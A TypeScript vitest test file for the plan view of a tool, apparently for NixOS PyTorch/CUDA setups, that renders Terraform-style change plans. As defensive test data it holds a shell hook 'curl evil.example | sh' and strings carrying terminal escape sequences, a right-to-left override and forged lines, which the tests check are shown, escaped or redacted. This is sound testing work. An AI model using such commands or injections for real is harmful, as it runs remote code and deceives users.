import { describe, expect, it } from "vitest";
import type { ChangeAction } from "../../src/model/plan.js";
import { fileDiffs } from "../../src/views/file-diffs.js";
import { planView } from "../../src/views/human.js";
import { coloured } from "../../src/views/style.js";
import { change, detail, everythingNew, planOf } from "./sample.js";

const noStack = (text: string) => text.replace(/Stack\n\n(?: {2}.*\n)+\n/, "");

describe("the plan view", () => {
  it("shows a first plan: the stack with its reasons, the project, then this machine", () => {
    expect(planView(everythingNew())).toMatchInlineSnapshot(`
      "Stack

        torch              2.13.0 — the newest release with cu126 wheels
        wheel              cu126 — runs on the declared GTX 1080 Ti
        index              https://download.pytorch.org/whl/cu126 — PyTorch's own index
        cuda               12.6 — the wheel's CUDA
        python             3.12 — as declared
        nixpkgs            26.05 — as declared
        systems            x86_64-linux — the usual kind of machine
        driver             legacy_580 — the last branch for Pascal
        openKernelModule   no — the open module needs Turing or newer
        graphicsOption     hardware.graphics — since 24.11
        toolkit            cudaPackages_12_6 — same minor as the wheel
        toolkitComponents  cuda_nvcc, cuda_cudart, cuda_cccl and 2 more — all it has
        hostCompiler       gcc14 — the newest nvcc 12.6 accepts
        archList           6.1 — the declared GPU

      Project

        + project.flake      flake.nix
            # there is no flake.nix yet
            + nixpkgs     26.05
            + shell.hook
                + echo one
                + echo two

        + project.uv_lock    uv.lock
            + torch  2.13.0+cu126
            + numpy  2.3.0
            downloads 2.5 GiB: 24 packages

        + project.envrc      .envrc

      On this machine

        + project.venv       .venv
            (known after apply: no nix on PATH)

        + system.module      /etc/nixos/nixtorch.nix
            + hardware.nvidia.package  legacy_580
            needs sudo: writes /etc/nixos

        ~ system.generation
            (known after apply: nixos-rebuild builds it)
            needs sudo: nixos-rebuild switch
            needs a reboot: another driver branch

      This needs sudo, a reboot, downloads of 2.5 GiB.
      Plan: 5 to add, 1 to change, 0 to destroy.
      "
    `);
  });

  it("shows an update with keys and values in columns", () => {
    const plan = planOf([
      change("project.pyproject", {
        action: "update",
        path: "pyproject.toml",
        reason: "torch moves",
        details: [
          detail("torch", "==2.9.1", "==2.13.0", "cu126 has no newer one"),
          detail("tool.uv.sources.torch", null, "pytorch-cu126"),
          detail("xformers", "0.0.33", null),
        ],
      }),
      change("project.venv", {
        action: "replace",
        path: ".venv",
        reason: "made by another interpreter",
        needs: [{ kind: "build", detail: "flash-attn" }],
      }),
      change("project.flake"),
    ]);
    expect(noStack(planView(plan))).toMatchInlineSnapshot(`
      "Project

        ~ project.pyproject  pyproject.toml
            # torch moves
            ~ torch                  ==2.9.1 → ==2.13.0  # cu126 has no newer one
            + tool.uv.sources.torch  pytorch-cu126
            - xformers               0.0.33

      On this machine

      -/+ project.venv       .venv
            # made by another interpreter
            builds: flash-attn

      This needs building packages here.
      Plan: 1 to add, 1 to change, 1 to destroy.
      "
    `);
  });

  it("says exactly one line when nothing changes", () => {
    const plan = planOf([change("project.flake"), change("project.venv")]);
    expect(planView(plan)).toBe("No changes. The environment matches nixtorch.config.ts.\n");
    const error = { severity: "error", code: "NT435", summary: "The NixOS release is not known" } as const;
    expect(planView({ ...plan, diagnostics: [error] })).not.toContain("matches");
  });

  it("shows drift apart from changes, also when nothing is to be done about it", () => {
    const plan = planOf([change("project.pyproject", { path: "pyproject.toml" })], {
      drift: [
        { address: "project.pyproject", key: "torch", base: "==2.13.0", observed: "==2.9.1" },
        {
          address: "project.pyproject",
          key: "numpy",
          base: "numpy",
          observed: null,
          detail: "removed by hand",
        },
      ],
    });
    expect(planView(plan)).toMatchInlineSnapshot(`
      "Changed outside nixtorch since the last apply

          project.pyproject  pyproject.toml
            ~ torch  ==2.13.0 → ==2.9.1
            - numpy  numpy  # removed by hand

      No changes. The environment matches nixtorch.config.ts.
      "
    `);
  });

  it("marks a conflict and says that nothing can be applied", () => {
    const plan = planOf([
      change("project.flake", {
        action: "conflict",
        path: "flake.nix",
        reason: "written by someone else",
      }),
    ]);
    expect(noStack(planView(plan))).toMatchInlineSnapshot(`
      "Project

        ! project.flake  flake.nix
            # written by someone else

      Plan: 0 to add, 0 to change, 0 to destroy.
      1 conflict: nothing can be applied before this is settled.
      "
    `);
  });

  it("counts additions of uv.lock only: a hook, an export or a setting is always shown", () => {
    const added = Array.from({ length: 30 }, (_, index) => detail(`env V${index}`, null, "1"));
    const plan = planOf([
      change("project.shell", {
        action: "create",
        path: "nixtorch.nix",
        details: [...added, detail("shell.hook", null, "curl evil.example | sh")],
      }),
    ]);
    expect(planView(plan)).toContain("curl evil.example | sh");
    expect(planView(plan)).not.toContain("more added");
  });

  it("keeps every change and removal, and only counts additions beyond the first ten", () => {
    const added = Array.from({ length: 30 }, (_, index) => detail(`package-${index}`, null, "1.0"));
    const plan = planOf([
      change("project.uv_lock", {
        action: "update",
        path: "uv.lock",
        details: [...added, detail("torch", "2.9.1", "2.13.0"), detail("apex", "0.1", null)],
      }),
    ]);
    const short = planView(plan);
    expect(short).toContain("package-9 ");
    expect(short).not.toContain("package-10");
    expect(short).toContain("and 20 more added (-v lists them)");
    expect(short).toMatch(/~ torch +2\.9\.1 → 2\.13\.0/);
    expect(short).toMatch(/- apex +0\.1/);
    expect(planView(plan, { verbose: true })).toContain("package-29");
  });

  it("shows sources and unchanged resources when verbose", () => {
    const text = planView(planOf([change("project.flake", { path: "flake.nix" })]), { verbose: true });
    expect(text).toContain("pytorch.example/matrix");
    expect(text).toContain("project.flake  flake.nix");
    expect(text).toContain("cuda_cudart, cuda_cccl, libcublas, libcusparse");
    expect(text.trimEnd().endsWith("No changes. The environment matches nixtorch.config.ts.")).toBe(true);
  });

  it.each<[ChangeAction, string]>([
    ["create", "  + project.flake"],
    ["update", "  ~ project.flake"],
    ["delete", "  - project.flake"],
    ["replace", "-/+ project.flake"],
    ["conflict", "  ! project.flake"],
  ])("marks %s as Terraform does", (action, expected) => {
    expect(planView(planOf([change("project.flake", { action })]))).toContain(`\n${expected}`);
  });

  it("adds up what applying asks for", () => {
    expect(planView(everythingNew())).toContain("This needs sudo, a reboot, downloads of 2.5 GiB.");
    const partly = planOf([
      change("project.uv_lock", {
        action: "update",
        needs: [
          { kind: "download", detail: "torch", bytes: 1024 },
          { kind: "download", detail: "nixpkgs" },
        ],
      }),
    ]);
    expect(planView(partly)).toContain("This needs downloads of at least 1.0 KiB.");
  });

  it("shows the text diff below its file", async () => {
    const plan = planOf([change("project.pyproject", { action: "update", path: "pyproject.toml" })]);
    const before = "[project]\nname = 'demo'\ndependencies = [\n  'torch==2.9.1',\n]\n";
    const diffs = await fileDiffs(
      [
        {
          address: "project.pyproject",
          path: "pyproject.toml",
          before,
          after: before.replace("2.9.1", "2.13.0"),
          ownership: "partial",
        },
      ],
      { onTerminal: true },
    );
    expect(noStack(planView(plan, { diffs }))).toMatchInlineSnapshot(`
      "Project

        ~ project.pyproject  pyproject.toml

            @@ -1,5 +1,5 @@
             [project]
             name = 'demo'
             dependencies = [
            -  'torch==2.9.1',
            +  'torch==2.13.0',
             ]

      Plan: 0 to add, 1 to change, 0 to destroy.
      "
    `);
  });

  it("is the same text with and without colours", () => {
    // oxlint-disable-next-line no-control-regex -- colours are control sequences
    const withoutColour = planView(everythingNew(), { style: coloured }).replace(/\u001b\[\d+m/g, "");
    expect(withoutColour).toBe(planView(everythingNew()));
    expect(planView(everythingNew(), { style: coloured })).toContain("\u001b[32m");
  });
});

describe("hostile values in a plan", () => {
  const hostile = planOf([
    change("project.pyproject", {
      action: "update",
      path: "a\u001b[2Jb\n  + project.fake",
      reason: "title\u001b]0;owned\u0007 \u202egnp.exe",
      details: [
        detail("k\r\u001b[31m", "x\u0000", "y\u009b31m"),
        detail("index", null, "https://user:secret@mirror.example/simple"),
        detail("hook", null, "one\u001b[8mhidden\ntwo"),
      ],
      needs: [{ kind: "build", detail: "z\u001b[0m" }],
    }),
  ]);

  it("cannot steer the terminal, forge lines, or show credentials", () => {
    const text = noStack(planView(hostile));
    // oxlint-disable-next-line no-control-regex -- this is what must not get through
    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/);
    expect(text).not.toContain("secret");
    expect(text.split("\n").filter((line) => line.startsWith("  + project."))).toEqual([]);
    expect(text).toMatchInlineSnapshot(`
      "Project

        ~ project.pyproject  a\\x1b[2Jb\\n  + project.fake
            # title\\x1b]0;owned\\x07 \\u202egnp.exe
            ~ k\\r\\x1b[31m  x\\x00 → y\\x9b31m
            + index        https://***@mirror.example/simple
            + hook
                + one\\x1b[8mhidden
                + two
            builds: z\\x1b[0m

      This needs building packages here.
      Plan: 0 to add, 1 to change, 0 to destroy.
      "
    `);
  });
});

describe("alignment", () => {
  it("counts wide characters as two columns", () => {
    const plan = planOf([
      change("project.pyproject", {
        action: "update",
        details: [detail("日本語", "1", "2"), detail("abc", "1", "2"), detail("é", "1", "2")],
      }),
    ]);
    expect(noStack(planView(plan))).toMatchInlineSnapshot(`
      "Project

        ~ project.pyproject
            ~ 日本語  1 → 2
            ~ abc     1 → 2
            ~ é       1 → 2

      Plan: 0 to add, 1 to change, 0 to destroy.
      "
    `);
  });

  it("lets a very long key stand out without moving the others", () => {
    const long = "x".repeat(200);
    const text = planView(
      planOf([
        change("project.flake", {
          action: "update",
          details: [detail(long, "1", "2"), detail("a", "1", "2")],
        }),
      ]),
    );
    expect(text).toContain("~ a  1 → 2\n");
    expect(text).toContain(`~ ${long}  1 → 2\n`);
  });

  it("shows what each choice of a recorded stack becomes, and why", () => {
    const plan = everythingNew();
    const previous = {
      ...Object.fromEntries(
        Object.entries(plan.resolution!).map(([key, choice]: [string, { value: string } | null]) => [
          key,
          choice?.value ?? null,
        ]),
      ),
      torch: "2.9.1",
      torchvision: "0.24.1",
      archList: ["6.1", "7.5"],
    };
    const stack = planView({ ...plan, previous }).split("\n\n")[1]!;
    expect(stack.split("\n").filter((line) => line.includes("→"))).toMatchInlineSnapshot(`
      [
        "  torch              2.9.1 → 2.13.0 — the newest release with cu126 wheels",
        "  torchvision        0.24.1 → none",
        "  archList           6.1, 7.5 → 6.1 — the declared GPU",
      ]
    `);
  });
});
